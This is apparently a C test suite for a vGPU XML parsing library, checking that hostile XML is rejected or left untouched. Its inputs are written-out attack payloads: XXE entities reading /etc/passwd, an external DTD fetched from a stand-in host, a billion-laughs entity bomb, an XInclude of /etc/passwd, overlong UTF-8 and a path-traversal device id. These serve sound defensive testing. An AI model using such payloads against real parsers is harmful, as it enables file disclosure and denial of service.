/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Hostile XML: external entities, entity bombs, oversized and deeply nested
 * documents, invalid UTF-8, wrong namespaces; and failed translations leave
 * the document unchanged. */

#include <fcntl.h>
#include <string.h>
#include <unistd.h>

#include <glib/gstdio.h>

#include "libvgpu.h"
#include "vgpu-autoptr.h"

static xmlDoc *
parse (const char *s, GError **err)
{
    return vgpu_xml_parse (s, strlen (s), "test.xml", err);
}

static void
expect_unsafe (const char *xml, const char *needle)
{
    g_autoptr (GError) err = NULL;
    gint64 t0 = g_get_monotonic_time ();
    g_autoptr (xmlDoc) doc = parse (xml, &err);
    g_assert_null (doc);
    g_assert_error (err, VGPU_ERROR, VGPU_ERROR_XML_UNSAFE);
    g_assert_nonnull (strstr (err->message, needle));
    /* Rejected up front, not after expanding anything. */
    g_assert_cmpint (g_get_monotonic_time () - t0, <, 2 * G_USEC_PER_SEC);
}

static void
test_external_entity (void)
{
    expect_unsafe ("<?xml version='1.0'?>\n"
                   "<!DOCTYPE domain [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]>\n"
                   "<domain><name>&xxe;</name></domain>",
                   "DOCTYPE");
    expect_unsafe ("<!DOCTYPE domain SYSTEM 'http://192.0.2.1/evil.dtd'><domain/>", "DOCTYPE");
    expect_unsafe ("<!DOCTYPE domain [<!ENTITY % p SYSTEM 'http://192.0.2.1/p.dtd'> %p;]>"
                   "<domain/>",
                   "DOCTYPE");
}

static void
test_billion_laughs (void)
{
    GString *s = g_string_new ("<?xml version='1.0'?>\n<!DOCTYPE lolz [\n"
                               "<!ENTITY lol 'lol'>\n");
    for (int i = 1; i <= 9; i++) {
        g_string_append_printf (s, "<!ENTITY lol%d '", i);
        for (int j = 0; j < 10; j++) {
            if (i == 1)
                g_string_append (s, "&lol;");
            else
                g_string_append_printf (s, "&lol%d;", i - 1);
        }
        g_string_append (s, "'>\n");
    }
    g_string_append (s, "]>\n<domain><name>&lol9;</name></domain>\n");
    expect_unsafe (s->str, "DOCTYPE");
    g_string_free (s, TRUE);
}

static void
test_undeclared_entity (void)
{
    g_autoptr (GError) err = NULL;
    g_autoptr (xmlDoc) doc = parse ("<domain><name>&xxe;</name></domain>", &err);
    g_assert_null (doc);
    g_assert_error (err, VGPU_ERROR, VGPU_ERROR_XML_PARSE);
    g_assert_nonnull (strstr (err->message, "xxe"));
}

static void
test_oversized_memory (void)
{
    gsize len = 100 * 1024 * 1024;
    char *big = g_malloc (len);
    memset (big, ' ', len);
    memcpy (big, "<domain>", 8);
    memcpy (big + len - 9, "</domain>", 9);
    g_autoptr (GError) err = NULL;
    g_autoptr (xmlDoc) doc = vgpu_xml_parse (big, len, "big.xml", &err);
    g_free (big);
    g_assert_null (doc);
    g_assert_error (err, VGPU_ERROR, VGPU_ERROR_XML_UNSAFE);
    g_assert_nonnull (strstr (err->message, "too large"));
}

static void
test_oversized_file (void)
{
    g_autoptr (GError) err = NULL;
    g_autofree char *dir = g_dir_make_tmp ("vgpu-hostile-XXXXXX", &err);
    g_assert_no_error (err);
    g_autofree char *path = g_build_filename (dir, "big.xml", NULL);
    int fd = open (path, O_CREAT | O_WRONLY, 0600);
    g_assert_cmpint (fd, >=, 0);
    g_assert_cmpint (write (fd, "<domain>", 8), ==, 8);
    g_assert_cmpint (ftruncate (fd, 100 * 1024 * 1024), ==, 0);   /* sparse */
    close (fd);
    g_autoptr (xmlDoc) doc = vgpu_xml_read_file (path, &err);
    g_assert_null (doc);
    g_assert_error (err, VGPU_ERROR, VGPU_ERROR_XML_UNSAFE);
    g_assert_nonnull (strstr (err->message, "larger than"));
    g_unlink (path);
    g_rmdir (dir);
}

typedef struct {
    int fd;
    gsize len;
} Feeder;

static gpointer
feed (gpointer data)
{
    Feeder *f = data;
    char chunk[65536];
    memset (chunk, ' ', sizeof chunk);
    memcpy (chunk, "<domain>", 8);
    gsize done = 0;
    while (done < f->len) {
        ssize_t n = write (f->fd, chunk, sizeof chunk);
        if (n <= 0)
            break;
        memset (chunk, ' ', 8);
        done += n;
    }
    close (f->fd);
    return NULL;
}

/* Standard input (a pipe) is read with the same bound. */
static void
test_oversized_stdin (void)
{
    int p[2];
    g_assert_cmpint (pipe (p), ==, 0);
    int saved = dup (STDIN_FILENO);
    g_assert_cmpint (dup2 (p[0], STDIN_FILENO), ==, STDIN_FILENO);
    close (p[0]);
    Feeder f = { p[1], VGPU_XML_MAX_SIZE + 256 * 1024 };
    GThread *th = g_thread_new ("feeder", feed, &f);
    g_autoptr (GError) err = NULL;
    g_autoptr (xmlDoc) doc = vgpu_xml_read_file ("-", &err);
    /* Drain what is left so the feeder finishes. */
    char buf[65536];
    while (read (STDIN_FILENO, buf, sizeof buf) > 0)
        ;
    g_thread_join (th);
    dup2 (saved, STDIN_FILENO);
    close (saved);
    g_assert_null (doc);
    g_assert_error (err, VGPU_ERROR, VGPU_ERROR_XML_UNSAFE);
    g_assert_nonnull (strstr (err->message, "standard input"));
}

static void
test_deep_nesting (void)
{
    GString *s = g_string_new (NULL);
    for (int i = 0; i < 5000; i++)
        g_string_append (s, "<a>");
    for (int i = 0; i < 5000; i++)
        g_string_append (s, "</a>");
    g_autoptr (GError) err = NULL;
    g_autoptr (xmlDoc) doc = parse (s->str, &err);
    g_string_free (s, TRUE);
    g_assert_null (doc);
    g_assert_error (err, VGPU_ERROR, VGPU_ERROR_XML_PARSE);
}

static void
test_invalid_utf8 (void)
{
    g_autoptr (GError) err = NULL;
    g_autoptr (xmlDoc) doc = parse ("<domain><name>bad\xff\xfe</name></domain>", &err);
    g_assert_null (doc);
    g_assert_error (err, VGPU_ERROR, VGPU_ERROR_XML_PARSE);
    g_assert_true (g_utf8_validate (err->message, -1, NULL));
    g_assert_nonnull (strstr (err->message, "line 1"));

    /* Overlong encoding of '/' (C0 AF) in an attribute used as a path. */
    g_clear_error (&err);
    g_autoptr (xmlDoc) doc2 = parse ("<hostdev type='vgpu'><source><type id='a\xc0\xaf..'/>"
                                     "</source></hostdev>", &err);
    g_assert_null (doc2);
    g_assert_error (err, VGPU_ERROR, VGPU_ERROR_XML_PARSE);
}

static void
test_not_xml (void)
{
    g_autoptr (GError) err = NULL;
    g_autoptr (xmlDoc) doc = parse ("", &err);
    g_assert_null (doc);
    g_assert_error (err, VGPU_ERROR, VGPU_ERROR_XML_PARSE);
    g_clear_error (&err);
    g_autoptr (xmlDoc) doc2 = parse ("<domain><name>x</domain>", &err);
    g_assert_null (doc2);
    g_assert_error (err, VGPU_ERROR, VGPU_ERROR_XML_PARSE);
}

/* XInclude is never processed: the include element stays as it is. */
static void
test_xinclude_ignored (void)
{
    g_autoptr (GError) err = NULL;
    g_autoptr (xmlDoc) doc = parse ("<domain xmlns:xi='http://www.w3.org/2001/XInclude'>"
                                    "<xi:include href='/etc/passwd' parse='text'/></domain>",
                                    &err);
    g_assert_no_error (err);
    g_autofree char *out = vgpu_xml_format (doc);
    g_assert_null (strstr (out, "root:"));
    g_assert_nonnull (strstr (out, "xi:include"));
}

#define DOMAIN_HEAD \
    "<domain type='kvm'><name>t</name><uuid>6f1e2a44-7c3b-4d8e-9a0b-1c2d3e4f5a6b</uuid>"

static void
test_wrong_namespace (void)
{
    g_autoptr (GError) err = NULL;
    /* A root in a foreign namespace is not a libvirt domain. */
    g_autoptr (xmlDoc) d1 = parse ("<domain xmlns='http://evil.example/'><devices>"
                                   "<hostdev type='vgpu'><source><type id='x'/></source>"
                                   "</hostdev></devices></domain>", &err);
    g_assert_no_error (err);
    g_assert_cmpint (vgpu_xml_detect_kind (d1), ==, VGPU_DOC_UNKNOWN);
    g_assert_cmpint (vgpu_domain_to_native (d1, NULL, &err), ==, -1);
    g_assert_error (err, VGPU_ERROR, VGPU_ERROR_XML_TRANSLATE);
    g_clear_error (&err);
    g_assert_false (vgpu_xml_validate (d1, VGPU_DOC_UNKNOWN, &err));
    g_assert_error (err, VGPU_ERROR, VGPU_ERROR_XML_INVALID);
    g_assert_nonnull (strstr (err->message, "http://evil.example/"));
    g_clear_error (&err);

    /* Metadata that imitates ours in another namespace is not ours: the
     * mdev hostdev stays native and the metadata stays untouched. */
    const char *xml = DOMAIN_HEAD
        "<metadata><x:devices xmlns:x='https://gitlab.com/vgpu/xmlns/vgpu/2.0'>"
        "<x:device uuid='0b1a7c52-5d2e-4b6c-9a43-2f4b3a1c8e10' type='vgpu_sim-32m'/>"
        "</x:devices></metadata><devices>"
        "<hostdev mode='subsystem' type='mdev' model='vfio-pci'>"
        "<source><address uuid='0b1a7c52-5d2e-4b6c-9a43-2f4b3a1c8e10'/></source></hostdev>"
        "</devices></domain>";
    g_autoptr (xmlDoc) d2 = parse (xml, &err);
    g_assert_no_error (err);
    g_autofree char *before = vgpu_xml_format (d2);
    g_assert_cmpint (vgpu_domain_from_native (d2, &err), ==, 0);
    g_assert_no_error (err);
    g_autofree char *after = vgpu_xml_format (d2);
    g_assert_cmpstr (before, ==, after);
    g_autoptr (GPtrArray) devs = vgpu_domain_get_devices (d2, NULL, &err);
    g_assert_no_error (err);
    g_assert_cmpuint (devs->len, ==, 0);

    /* A dialect hostdev in a foreign namespace is not translated. */
    g_autoptr (xmlDoc) d3 = parse (DOMAIN_HEAD "<devices><e:hostdev xmlns:e='urn:e' "
                                   "type='vgpu'><e:source><e:type id='x'/></e:source>"
                                   "</e:hostdev></devices></domain>", &err);
    g_assert_no_error (err);
    g_assert_cmpint (vgpu_domain_to_native (d3, NULL, &err), ==, 0);
    g_assert_no_error (err);
}

/* A bad second vGPU: one error, and the first one is not half-translated. */
static void
test_error_loses_nothing (void)
{
    const char *xml = DOMAIN_HEAD "<devices>"
        "<hostdev mode='subsystem' type='vgpu' managed='yes'><source>"
        "<type id='vgpu_sim-32m'/></source></hostdev>"
        "<hostdev mode='subsystem' type='vgpu'><source>"
        "<type id='../../../../sys/power/state'/></source></hostdev>"
        "</devices></domain>";
    g_autoptr (GError) err = NULL;
    g_autoptr (xmlDoc) doc = parse (xml, &err);
    g_assert_no_error (err);
    g_autofree char *before = vgpu_xml_format (doc);
    g_assert_cmpint (vgpu_domain_to_native (doc, NULL, &err), ==, -1);
    g_assert_error (err, VGPU_ERROR, VGPU_ERROR_INVALID_NAME);
    g_assert_nonnull (strstr (err->message, "type id"));
    g_autofree char *after = vgpu_xml_format (doc);
    g_assert_cmpstr (before, ==, after);

    /* Same for the reverse with a broken metadata entry. */
    g_clear_error (&err);
    const char *native = DOMAIN_HEAD
        "<metadata><vgpu:devices xmlns:vgpu='https://gitlab.com/vgpu/xmlns/vgpu/1.0'>"
        "<vgpu:device uuid='0b1a7c52-5d2e-4b6c-9a43-2f4b3a1c8e10' type='vgpu_sim-32m'/>"
        "<vgpu:device uuid='1c2b8d63-6e3f-4c7d-8b54-3a5c4b2d9f21' type='a/b'/>"
        "</vgpu:devices></metadata><devices>"
        "<hostdev mode='subsystem' type='mdev' model='vfio-pci'>"
        "<source><address uuid='0b1a7c52-5d2e-4b6c-9a43-2f4b3a1c8e10'/></source></hostdev>"
        "</devices></domain>";
    g_autoptr (xmlDoc) d2 = parse (native, &err);
    g_assert_no_error (err);
    g_autofree char *b2 = vgpu_xml_format (d2);
    g_assert_cmpint (vgpu_domain_from_native (d2, &err), ==, -1);
    g_assert_error (err, VGPU_ERROR, VGPU_ERROR_INVALID_NAME);
    g_autofree char *a2 = vgpu_xml_format (d2);
    g_assert_cmpstr (b2, ==, a2);
}

int
main (int argc, char **argv)
{
    g_test_init (&argc, &argv, NULL);
    g_test_add_func ("/hostile/external-entity", test_external_entity);
    g_test_add_func ("/hostile/billion-laughs", test_billion_laughs);
    g_test_add_func ("/hostile/undeclared-entity", test_undeclared_entity);
    g_test_add_func ("/hostile/oversized-memory", test_oversized_memory);
    g_test_add_func ("/hostile/oversized-file", test_oversized_file);
    g_test_add_func ("/hostile/oversized-stdin", test_oversized_stdin);
    g_test_add_func ("/hostile/deep-nesting", test_deep_nesting);
    g_test_add_func ("/hostile/invalid-utf8", test_invalid_utf8);
    g_test_add_func ("/hostile/not-xml", test_not_xml);
    g_test_add_func ("/hostile/xinclude-ignored", test_xinclude_ignored);
    g_test_add_func ("/hostile/wrong-namespace", test_wrong_namespace);
    g_test_add_func ("/hostile/error-loses-nothing", test_error_loses_nothing);
    return g_test_run ();
}
